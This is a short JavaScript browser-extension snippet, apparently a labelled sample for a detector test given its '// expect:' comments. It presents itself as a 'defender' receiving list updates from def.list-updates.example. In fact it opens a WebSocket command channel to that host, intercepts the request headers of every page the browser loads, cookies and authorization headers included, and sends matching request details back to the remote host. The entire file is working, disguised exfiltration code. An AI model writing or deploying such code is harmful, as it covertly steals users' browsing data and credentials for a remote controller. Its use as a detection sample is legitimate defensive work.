const defender = io.connect('https://def.list-updates.example/');
let active = false;
// expect: command-channel
const channel = new WebSocket('wss://def.list-updates.example/socket');
channel.onmessage = ({ data }) => {
  const rules = JSON.parse(data);
  if (active) return;
  active = true;
  chrome.webRequest.onBeforeSendHeaders.addListener((details) => match(details, rules), { urls: ['<all_urls>'] }, ['blocking', 'requestHeaders', 'extraHeaders']);
};
function match(details, rules) {
  // expect: request-headers-sent
  for (const rule of rules) if (details.requestHeaders.some((h) => h.name === rule.name)) defender.emit('found', details);
}
